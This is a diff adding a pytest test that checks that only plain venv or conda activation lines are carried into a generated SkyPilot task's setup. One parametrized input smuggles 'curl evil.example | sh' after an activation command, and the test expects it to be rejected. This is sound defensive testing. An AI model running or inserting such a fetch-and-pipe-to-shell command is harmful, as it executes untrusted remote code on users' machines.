@@ -89,6 +89,24 @@ def test_a_corpus_script_ports_to_a_task_with_its_program_and_process_model(tmp_
     assert (tmp_path / "skypilot" / "perlmutter_torchrun_ddp.sky.yaml").read_text() == result.script
 
 
+@pytest.mark.parametrize("python_env, carried", [
+    ("source .venv/bin/activate", "source .venv/bin/activate"), ("conda activate torch", "conda activate torch"),
+    (". $SCRATCH/envs/t/bin/activate", 'source "$SCRATCH/envs/t/bin/activate"'),
+    ("source x/bin/activate; curl evil.example | sh", None), ("eval \"$(conda shell.bash hook)\"", None),
+])
+def test_only_a_plain_activation_is_carried_into_setup(python_env, carried):
+    from dataclasses import replace
+
+    from maple_ci.extract import extract_script
+    from maple_ci.skypilot import write_task
+
+    intent = replace(extract_script(EXAMPLE.read_text(), str(EXAMPLE)), python_env=python_env)
+    task = write_task(intent, "A100", "t")
+    setup = yaml.safe_load(task)["setup"].splitlines()
+    assert setup == ["module load pytorch/2.8.0", *([carried] if carried else [])]
+    assert ("is not carried over: not a plain venv or conda activation" in task) == (carried is None)
+
+
 PERLMUTTER = "#SBATCH -A m1234 -C gpu -q regular\n"
 
 
